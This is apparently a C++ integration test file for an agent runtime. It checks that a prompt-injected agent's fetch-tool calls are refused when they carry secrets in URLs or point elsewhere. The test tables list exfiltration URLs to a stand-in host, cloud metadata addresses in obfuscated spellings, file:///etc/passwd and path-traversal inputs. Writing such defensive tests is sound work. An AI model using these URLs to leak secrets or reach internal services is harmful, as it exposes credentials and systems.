// An injected agent tries to get something out by what it has tools called with: secrets in URLs, and URLs that lead elsewhere.

#include <array>
#include <string>
#include <vector>

#include <boost/test/unit_test.hpp>

#include "tests/integration/runtime/attack_scene.hpp"
#include "tests/integration/runtime/secret_forms.hpp"

namespace chancery::tests {
namespace {

constexpr const char* kScope = "web.fetch";
constexpr const char* kKnown = "psp-canary-71c3f9e2-fourteen";  // as it is, it may stand in a URL
constexpr const char* kPages = "https://docs.example.org/";

/// A tool that has pages fetched by a service, and a chain for pages below one address.
struct FetchScene : AttackScene {
  FetchScene() {
    put("fetcher", kKnown, kScope, {"fetch"});
    declare({.name = "fetch",
             .scope = kScope,
             .credential = "fetcher",
             .arguments = "url = { type = \"string\", maxLength = 2000 }",
             .required = "\"url\"",
             .url = upstream.url() + "/fetch",
             .constraint = "url url"});
    runtime.start();
    add_agent("reader");
    chain = granted("user:alice@example.org", "reader", {{kScope}, {{"url", Prefix{kPages}}}});
  }

  static std::string to(const std::string& url) { return R"({"url":")" + url + "\"}"; }
  HttpReply fetch(const std::string& url) const { return call(chain, "fetch", kScope, to(url)); }

  std::vector<std::string> chain;
};

std::string page(const std::string& rest) { return kPages + rest; }

struct Leak {
  std::string name;
  std::string url;
  std::string kind;  ///< of what is found in it
};

std::vector<Leak> leaks() {
  std::vector<Leak> out{
      {"a model's key", page("?q=sk-proj-Ab3dE5gH7jK9mN1pQ3sT5vX7zA9bC1d"), "pattern"},
      {"a key in the path", page("AKIAIOSFODNN7EXAMPLE/logo.png"), "pattern"},
      {"what is as good as random", page("?d=q8Zt3LxV0mB7nRk2Wc9YpJ5hGf4Ds1Ae6UiO"), "entropy"},
      {"a token in the query", page("?access_token=Zk3jfu2kd9sl"), "pattern"},
  };
  for (const SecretForm& form : encodings_of(kKnown)) {
    // Others than these are not the one spelling of a URL: they are refused as such.
    if (form.name == "plain" || form.name == "hexadecimal" || form.name == "base64url")
      out.push_back({"the credential, " + form.name, page("?d=" + form.text), "known"});
  }
  return out;
}

struct Elsewhere {
  const char* name;
  const char* url;
  int status;  ///< 403: the chain is not for it; 422: nobody writes an address so
  const char* code;
};
constexpr std::array kElsewhere{
    Elsewhere{"another host", "https://evil.example/?d=notes", 403, "ceiling_exceeded"},
    Elsewhere{"a host that begins alike", "https://docs.example.org.evil.example/", 403, "ceiling_exceeded"},
    Elsewhere{"another port", "https://docs.example.org:8443/", 403, "ceiling_exceeded"},
    Elsewhere{"another scheme", "http://docs.example.org/", 403, "ceiling_exceeded"},
    Elsewhere{"metadata", "http://169.254.169.254/latest/meta-data/", 403, "ceiling_exceeded"},
    Elsewhere{"metadata, IPv4 within IPv6", "http://[::ffff:169.254.169.254]/latest/", 403,
              "ceiling_exceeded"},
    Elsewhere{"this machine", "https://127.0.0.1/admin", 403, "ceiling_exceeded"},
    Elsewhere{"the host as a user's name", "https://docs.example.org@evil.example/", 422,
              "invalid_arguments"},
    Elsewhere{"a user and a password", "https://a:b@docs.example.org/", 422, "invalid_arguments"},
    Elsewhere{"metadata as one number", "http://2852039166/latest/", 422, "invalid_arguments"},
    Elsewhere{"metadata in hexadecimal", "http://0xa9.0xfe.0xa9.0xfe/latest/", 422, "invalid_arguments"},
    Elsewhere{"metadata, IPv4 within IPv6 in another spelling", "http://[::ffff:a9fe:a9fe]/latest/", 422,
              "not_canonical"},
    Elsewhere{"a shortened address", "http://127.1/", 422, "invalid_arguments"},
    Elsewhere{"a fragment", "https://docs.example.org/#@evil.example/", 422, "invalid_arguments"},
    Elsewhere{"a file", "file:///etc/passwd", 422, "invalid_arguments"},
    Elsewhere{"dots that lead out", "https://docs.example.org/a/../../b", 422, "not_canonical"},
    Elsewhere{"a host in capitals", "https://DOCS.example.org/", 422, "not_canonical"},
};

}  // namespace

BOOST_AUTO_TEST_SUITE(exfiltration)

BOOST_FIXTURE_TEST_CASE(a_secret_in_a_url_refuses_the_call_and_stands_in_the_log_by_its_kind, FetchScene) {
  // Once the runtime was given the credential, it knows it wherever it comes from.
  BOOST_REQUIRE(fetch(page("index.html")).status == 200);
  std::size_t refused = 0;
  for (const Leak& leak : leaks()) {
    const HttpReply reply = fetch(leak.url);
    BOOST_TEST(reply.status == 422, leak.name << ": " << reply.body);
    BOOST_TEST(member(reply.body, "code") == "secret_in_arguments", leak.name << ": " << reply.body);
    BOOST_TEST(form_in(reply.body, kKnown).empty(), leak.name);
    const std::string entry = last("tool.refuse");
    BOOST_TEST(count("tool.refuse") == ++refused, leak.name);
    BOOST_TEST(has(entry, R"("reason":"secret_in_arguments")"), leak.name << ": " << entry);
    BOOST_TEST(has(entry, "\"" + leak.kind + "\":"), leak.name << ": " << entry);
    BOOST_TEST(has(entry, id_of_token(chain.back())), leak.name << ": " << entry);
    BOOST_TEST(form_in(entry, kKnown).empty(), leak.name);
  }
  BOOST_TEST(upstream.seen().size() == 1u);
  BOOST_TEST(count("credential.release") == 1u);
}

BOOST_FIXTURE_TEST_CASE(a_url_that_leads_elsewhere_reaches_nobody_and_stands_in_the_log, FetchScene) {
  std::size_t denied = 0, refused = 0;
  for (const Elsewhere& row : kElsewhere) {
    const HttpReply reply = fetch(row.url);
    BOOST_TEST(reply.status == row.status, row.name << ": " << reply.body);
    BOOST_TEST(member(reply.body, "code") == row.code, row.name << ": " << reply.body);
    ++(row.status == 403 ? denied : refused);
    BOOST_TEST(count("tool.permit", "deny") == denied, row.name);
    BOOST_TEST(count("tool.refuse", "refused") == refused, row.name);
    BOOST_TEST(has(last(row.status == 403 ? "tool.permit" : "tool.refuse"), id_of_token(chain.back())),
               row.name);
  }
  BOOST_TEST(upstream.seen().empty());
  BOOST_TEST(count("credential.release") == 0u);
}

// The declared address is the tool's: what an agent may fill in is a value in it.
BOOST_AUTO_TEST_CASE(a_tool_that_is_declared_for_an_address_of_this_machine_is_not_called) {
  AttackScene scene;
  scene.put("fetcher", kKnown, kScope, {"inside", "metadata"});
  DeclaredTool tool{.name = "inside",
                    .scope = kScope,
                    .credential = "fetcher",
                    .arguments = "url = { type = \"string\" }",
                    .required = "\"url\"",
                    .url = scene.upstream.url() + "/fetch",
                    .addresses = R"("198.51.100.0/24")"};
  scene.declare(tool);
  tool.name = "metadata";
  tool.url = "http://169.254.169.254/latest/meta-data/";
  tool.addresses = R"("169.254.0.0/16")";  // no range is enough
  scene.declare(tool);
  scene.runtime.start();
  scene.add_agent("reader");
  const auto chain = scene.granted("user:alice@example.org", "reader", {{kScope}, {}});
  for (const char* const name : {"inside", "metadata"}) {
    const HttpReply reply = scene.call(chain, name, kScope, FetchScene::to(page("index.html")));
    BOOST_TEST(reply.status == 502, reply.body);
    BOOST_TEST(has(scene.last("tool.result"), R"("status":"failed")"), scene.last("tool.result"));
    BOOST_TEST(has(scene.last("tool.result"), member(reply.body, "permit")));
  }
  BOOST_TEST(scene.count("tool.result", "failed") == 2u);
  BOOST_TEST(scene.upstream.seen().empty());
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace chancery::tests
